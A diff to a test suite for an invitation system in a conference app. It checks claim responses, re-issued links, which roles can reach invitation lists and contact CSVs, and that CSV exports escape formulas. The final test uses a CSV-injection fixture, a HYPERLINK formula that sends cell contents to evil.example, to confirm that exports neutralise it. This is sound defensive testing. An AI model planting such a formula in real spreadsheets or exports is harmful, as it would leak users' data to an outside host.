@@ -1,5 +1,5 @@
 import { beforeEach, expect, it } from 'vitest';
-import type { Failure, InvitationList, JoinResponse } from '@roundtable/shared';
+import type { ClaimResponse, Failure, InvitationList } from '@roundtable/shared';
 import {
   connect,
   connected,
@@ -51,7 +51,7 @@ async function withInvitees() {
 }
 
 const claim = (roundtableId: string, participantId: string, key: string, token = deviceToken()) =>
-  post<JoinResponse & Failure>(server.url, '/api/invitations/claim', {
+  post<ClaimResponse & Failure>(server.url, '/api/invitations/claim', {
     roundtableId,
     participantId,
     key,
@@ -65,6 +65,7 @@ it('joins a phone as the invited person at once, and marks them arrived', async 
   const phone = await claim(rt.roundtableId, a, key);
   expect(phone.status).toBe(200);
   expect(phone.body).toMatchObject({ roundtableId: rt.roundtableId, participantId: a, pending: false });
+  expect(phone.body.profile).toMatchObject({ name: 'Әлихан Бөкейхан', language: 'kk', delegationName: 'Kazakhstan' });
   const arrived = await nextState(moderator, (s) => s.participants.find((p) => p.id === a)?.status === 'active');
   expect(arrived.participants.find((p) => p.id === a)?.arrivedAt).toBeGreaterThan(0);
   const socket = connect(server.url, rt.roundtableId, phone.token);
@@ -119,7 +120,7 @@ it('refuses a re-issued link at once and accepts the new one', async () => {
   expect(forged.body).toMatchObject({ reason: 'invitation_invalid' });
 });
 
-it('refuses the join code by invitation only, and gives the links and the mail-merge file to the moderator and the desk only', async () => {
+it('refuses the join code by invitation only, and gives the links to the moderator and the desk, the mail-merge file to the moderator', async () => {
   const { rt, moderator, a } = await withInvitees();
   expect(await send(moderator, { type: 'joining.setInvitationOnly', only: true })).toMatchObject({ ok: true });
   const walkIn = await join(server.url, rt.joinCode, 'Walk In');
@@ -146,9 +147,103 @@ it('refuses the join code by invitation only, and gives the links and the mail-m
   const projector = (await send(moderator, { type: 'link.create', role: 'projector', label: '' })) as {
     result?: { secret?: string };
   };
-  const forbidden = await get<Failure>(`/api/roundtables/${rt.roundtableId}/invitations.csv`, projector.result?.secret);
+  const forbidden = await get<Failure>(`/api/roundtables/${rt.roundtableId}/invitations`, projector.result?.secret);
   expect(forbidden.status).toBe(403);
   expect(forbidden.body).toMatchObject({ reason: 'invitations_forbidden' });
+  const mailMerge = await get<Failure>(`/api/roundtables/${rt.roundtableId}/invitations.csv`, projector.result?.secret);
+  expect(mailMerge.body).toMatchObject({ reason: 'contacts_forbidden' });
   const phone = await claim(rt.roundtableId, a, 'x'.repeat(22));
   expect(phone.status).toBe(401);
+});
+
+/** A link of `role`, minted by the moderator's socket: its secret. */
+async function mint(moderator: TestSocket, role: 'desk' | 'projector'): Promise<string> {
+  const ack = (await send(moderator, { type: 'link.create', role, label: '' })) as { result?: { secret?: string } };
+  return ack.result?.secret ?? '';
+}
+
+it('signs out the phone holding a re-issued invitation, and keeps one who joined with the code when locked', async () => {
+  const { rt, moderator, a, link } = await withInvitees();
+  const holder = await claim(rt.roundtableId, a, link(a).key);
+  const phone = connect(server.url, rt.roundtableId, holder.token);
+  await connected(phone);
+  const told = ended(phone);
+  expect(await send(moderator, { type: 'invitation.reissue', participantId: a })).toMatchObject({ ok: true });
+  expect(await told).toMatchObject({ reason: 'invitation_reissued' });
+  const again = connect(server.url, rt.roundtableId, holder.token);
+  const refused = await new Promise<Failure>((resolve) =>
+    again.on('connect_error', (e) => resolve((e as { data: Failure }).data)),
+  );
+  expect(refused).toMatchObject({ reason: 'unknown_key' });
+
+  // Someone in by the code holds their person: locked, their invitation opens on no other phone.
+  const walkIn = await join(server.url, rt.joinCode, 'Walk In');
+  const walkInId = walkIn.body.participantId;
+  const own = connect(server.url, rt.roundtableId, walkIn.token);
+  await connected(own);
+  expect(await send(moderator, { type: 'invitation.setLocked', participantId: walkInId, locked: true })).toMatchObject({
+    ok: true,
+  });
+  const links = await get<InvitationList>(`/api/roundtables/${rt.roundtableId}/invitations`, rt.moderatorSecret);
+  const key = new URL(links.body.invitations.find((i) => i.participantId === walkInId)?.url ?? '').hash.slice(5);
+  expect((await claim(rt.roundtableId, walkInId, key)).body).toMatchObject({ reason: 'invitation_locked' });
+  expect(
+    await send(own, { type: 'participant.update', participantId: walkInId, profile: { function: 'Still me' } }),
+  ).toMatchObject({
+    ok: true,
+  });
+});
+
+it('gives the desk no way to a rapporteur’s or moderator’s invitation, nor to e-mail addresses and notes', async () => {
+  const { rt, moderator, a, b } = await withInvitees();
+  expect(
+    await send(moderator, { type: 'invitee.update', participantId: b, fields: { role: 'rapporteur', note: 'VIP' } }),
+  ).toMatchObject({
+    ok: true,
+  });
+  const desk = await mint(moderator, 'desk');
+  const handed = await get<InvitationList>(`/api/roundtables/${rt.roundtableId}/invitations`, desk);
+  expect(handed.body.invitations.map((i) => i.participantId)).toEqual([a]);
+  const mailMerge = await get<Failure>(`/api/roundtables/${rt.roundtableId}/invitations.csv`, desk);
+  expect(mailMerge.status).toBe(403);
+  expect(mailMerge.body).toMatchObject({ reason: 'contacts_forbidden' });
+  const list = await get<never>(`/api/roundtables/${rt.roundtableId}/invitees.csv`, desk);
+  expect(list.status).toBe(200);
+  expect(list.text).toContain('Әлихан Бөкейхан');
+  expect(list.text).not.toContain('a@gov.kz');
+  expect(list.text).not.toContain('VIP');
+  const deskSocket = connect(server.url, rt.roundtableId, desk);
+  await connected(deskSocket);
+  const row = {
+    name: 'Sock Puppet',
+    function: '',
+    delegation: '',
+    language: 'en',
+    role: 'rapporteur',
+    email: '',
+    note: '',
+  };
+  expect(await send(deskSocket, { type: 'invitee.import', invitees: [row] })).toMatchObject({
+    reason: 'desk_participants_only',
+  });
+});
+
+it('writes a name that a spreadsheet would run as a formula as text, in every CSV', async () => {
+  const { rt, moderator } = await withInvitees();
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+  const row = {
+    name: formula,
+    function: '+cmd',
+    delegation: '',
+    language: 'en',
+    role: 'participant',
+    email: '',
+    note: '',
+  };
+  expect(await send(moderator, { type: 'invitee.import', invitees: [row] })).toMatchObject({ ok: true });
+  for (const file of ['invitations.csv', 'invitees.csv']) {
+    const csv = (await get<never>(`/api/roundtables/${rt.roundtableId}/${file}`, rt.moderatorSecret)).text;
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd`);
+    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
+  }
 });
